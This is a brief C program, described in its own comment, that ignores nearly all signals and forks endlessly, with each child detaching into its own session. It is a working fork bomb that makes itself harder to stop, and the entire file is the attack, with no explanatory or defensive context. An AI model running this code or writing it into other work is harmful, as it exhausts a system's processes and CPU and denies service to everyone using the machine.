/* Forks for ever, each process in a session of its own, deaf to every signal that can be ignored.
 */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	for (int sig = 1; sig < 32; sig++)
		if (sig != SIGCHLD)
			signal(sig, SIG_IGN);
	for (;;) {
		fork();
		setsid();
	}
}
